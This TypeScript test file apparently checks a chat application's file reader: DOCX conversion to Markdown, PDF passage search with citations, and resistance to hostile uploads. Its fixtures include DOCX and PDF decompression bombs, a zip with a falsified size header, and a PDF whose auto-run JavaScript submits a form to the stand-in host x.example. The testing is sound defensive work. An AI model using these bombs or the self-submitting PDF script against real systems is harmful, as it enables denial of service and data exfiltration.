// Files on the page in headless Chromium: a PDF with a citation, a DOCX, and hostile ones.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { Page } from "playwright-core";
import { readDocxText } from "../web/src/files/docx.ts";
import { noBrowser } from "./browser.ts";
import { makeDocx, makePdf, makePdfBomb } from "./documents.ts";
import { look, type PageServer, startPageServer } from "./page-server.ts";
import { speakingModel } from "./speaking-model.ts";

const paragraph = (text: string, style = "") =>
  `<w:p>${style && `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>`}<w:r><w:t>${text}</w:t></w:r></w:p>`;
const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;

test("a DOCX is read as Markdown, and a hostile one is bounded", () => {
  const styles = '<w:style w:type="paragraph" w:styleId="2"><w:name w:val="heading 2"/></w:style>';
  const body = [
    paragraph("方法", "2"),
    paragraph("A &amp; B &#x4e2d; &unknown;"),
    `<w:p><w:pPr><w:numPr/></w:pPr><w:r><w:t>item</w:t><w:delText>gone</w:delText></w:r></w:p>`,
    `<w:tbl><w:tr>${cell("a")}${cell("b")}</w:tr><w:tr>${cell("c")}${cell("d")}</w:tr></w:tbl>`,
    "<w:p/>",
  ];
  const expected = "## 方法\n\nA & B 中 &unknown;\n\n- item\n\na | b\nc | d";
  assert.equal(readDocxText(makeDocx(body.join(""), styles)), expected);
  assert.throws(() => readDocxText(Buffer.from("PK no archive")));
  const bomb = makeDocx("x".repeat(33 * 1024 * 1024));
  assert.ok(bomb.length < 100_000);
  assert.throws(() => readDocxText(bomb), /of at most/);
  const lying = Buffer.from(bomb);
  const central = lying.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  lying.writeUInt32LE(100, central + 24); // what it says that it unfolds to
  assert.equal(readDocxText(lying), "");
  for (const broken of ["<w:p".repeat(300_000), "<w:t>".repeat(300_000), '<w:pStyle w:val="'.repeat(100_000)])
    assert.equal(readDocxText(makeDocx(broken)), "");
});

describe("files of the page", { skip: noBrowser }, () => {
  let server: PageServer;
  before(async () => {
    const model = speakingModel(
      "reader",
      (messages) => {
        const asked = String(messages.at(-1)?.content);
        const cited = /\[(\d+)\] report\.pdf, page 3/.exec(asked)?.[1];
        return { text: cited ? `Violins have four strings [${cited}], not five [99].` : asked.slice(0, 500) };
      },
      1500,
    );
    server = await startPageServer((store) => ({ models: [model], application: { store } }));
  });
  after(() => server?.close());

  const filler = Array.from({ length: 40 }, (_, i) => `Line ${i + 1} has nothing to say about this at all.`);
  const report = makePdf([
    ["Rivers run.", ...filler],
    ["Mountains rise.", ...filler],
    ["A violin has four strings (not five).", ...filler],
    ["Lighthouses shine.", ...filler],
  ]);
  const attach = (page: Page, name: string, buffer: Buffer) =>
    page.locator('.composer input[type="file"]').setInputFiles({ name, mimeType: "", buffer });

  test("a PDF that is too long is searched, and the answer's citation opens the passage", async () => {
    await server.visit(async (page) => {
      await attach(page, "report.pdf", report);
      await page.locator(".composer textarea").fill("How many strings has a violin?");
      await page.getByText(/the model reads the passages that match it best/).waitFor();
      await look(page, "file-noticed");
      await page.locator(".composer textarea").press("Enter");
      await page.locator("article.answer").getByText("not five [99].").waitFor();
      await page.reload();
      await page.getByText(/^Read \d of \d+ passages of the files/).click();
      await page.getByRole("button", { name: "report.pdf · page 3" }).first().waitFor();
      await look(page, "file-cited");
      await page.getByRole("button", { name: /^Source \d/ }).click();
      const dialog = page.getByRole("dialog", { name: /report\.pdf · page 3/ });
      await dialog.getByText("A violin has four strings (not five).").waitFor();
      await look(page, "file-passage");
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "hidden" });
    });
  });

  test("a DOCX is read whole; damaged files, scripts and endless pages do no harm", async () => {
    await server.visit(async (page) => {
      await attach(page, "notes.docx", makeDocx(paragraph("Only this."), ""));
      await page.locator(".composer textarea").fill("Read");
      await page.getByText(/The files are read whole/).waitFor();
      await page.locator(".composer textarea").press("Enter");
      await page.locator("article.answer").getByText("Only this.").waitFor();

      await attach(page, "broken.pdf", Buffer.from("%PDF-1.7\nnothing follows"));
      const notice = page.getByText("“broken.pdf” is damaged");
      await notice.waitFor();
      const [told, composer] = await Promise.all(
        [notice, page.locator(".composer")].map((each) => each.boundingBox()),
      );
      assert.ok(told!.y + told!.height <= composer!.y, "a notice does not cover the files");
      const bomb = makePdfBomb(256);
      assert.ok(bomb.length < 100_000, `${bomb.length} bytes unfold to 4 GiB`);
      await attach(page, "bomb.pdf", bomb);
      await page.getByText(/“bomb.pdf” (is damaged|has no text in it)/).waitFor();
      await attach(page, "bytes.txt", Buffer.from([1, 0, 2, 0xff]));
      await page.getByText("“bytes.txt” is no text, PDF or DOCX").waitFor();
      await attach(page, "blank.pdf", makePdf([[]]));
      await page.getByText("“blank.pdf” has no text in it").waitFor();
      const script =
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x.example'\\)) >>";
      await attach(page, "script.pdf", makePdf([["Harmless text."]], script, 1_000_000_000));
      await page.locator(".composer li").getByText("script.pdf").waitFor();
      await page.locator(".composer textarea").fill("Read");
      await page.locator(".composer textarea").press("Enter");
      await page.locator("article.answer").last().getByText("Harmless text.").waitFor();
    });
  });
});
